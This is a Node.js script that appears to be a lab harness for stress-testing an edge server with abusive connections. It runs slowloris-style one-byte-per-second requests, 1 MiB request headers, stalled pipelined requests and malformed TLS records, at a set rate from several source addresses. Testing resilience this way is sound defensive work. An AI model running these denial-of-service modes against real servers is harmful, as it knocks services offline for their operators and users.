// SPDX-License-Identifier: Apache-2.0
// attack.mjs KIND N PATH ADDRESS..: N connections to the edge that mean no good, from these addresses by turns. Says
// how they have ended ({"431": 200}), when all have, or when stdin does. Started by abuse.mjs, on a host of the lab.
//   stalled  ask for PATH 100 times and read nothing     bytes    a byte of a request each second
//   heads    send a request head of 1 MiB                garbage  what is no TLS, or a record without end
import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { connect as tcp } from "node:net";
import { connect as tls } from "node:tls";

const HOST = "cmsweb.octavio.com";
const EDGE = "10.88.246.156";
const RATE = 100; // new connections in a second, of all
const [kind, n, path, ...addresses] = process.argv.slice(2);
const ca = readFileSync("/run/lab/public.crt");
const head = `GET / HTTP/1.1\r\nHost: ${HOST}\r\nX: `;
const ends = {};
let ended = 0;

const browser = (localAddress, then) => tls({ host: EDGE, port: 443, localAddress, servername: HOST, ca }, then);

const kinds = {
  stalled(from) {
    const c = browser(from, () => c.write(`GET ${path} HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`.repeat(100)));
    return c;
  },
  heads(from) {
    const c = browser(from, () => c.write(head + "a".repeat(1 << 20)));
    return c.resume();
  },
  bytes(from) {
    const text = head + "a".repeat(1000);
    let at = 0;
    const c = browser(from, () => {
      const timer = setInterval(() => c.write(text[at++]), 1000);
      c.once("close", () => clearInterval(timer));
    });
    return c.resume();
  },
  garbage(from, i) {
    const bytes = randomBytes(512);
    if (i % 2) bytes.set([0x16, 0x03, 0x01, 0x3f, 0xff, 0x01, 0x00, 0x3f, 0xfb]);
    const c = tcp({ host: EDGE, port: 443, localAddress: from }, () => c.write(bytes));
    return c.resume();
  },
};

function one(i) {
  const c = kinds[kind](addresses[i % addresses.length], i);
  let how = "closed";
  if (kind !== "stalled") c.once("data", (d) => { how = /^HTTP\/1.1 (\d+)/.exec(d)?.[1] ?? how; });
  c.on("error", (e) => { how = how === "closed" ? e.code : how; });
  c.once("close", () => {
    ends[how] = (ends[how] ?? 0) + 1;
    if (++ended === Number(n)) done();
  });
}

function done() {
  console.log(JSON.stringify(ends));
  process.exit(0);
}

process.stdin.resume().once("end", done);
for (let i = 0; i < Number(n); i++) setTimeout(one, (1000 * i) / RATE, i);
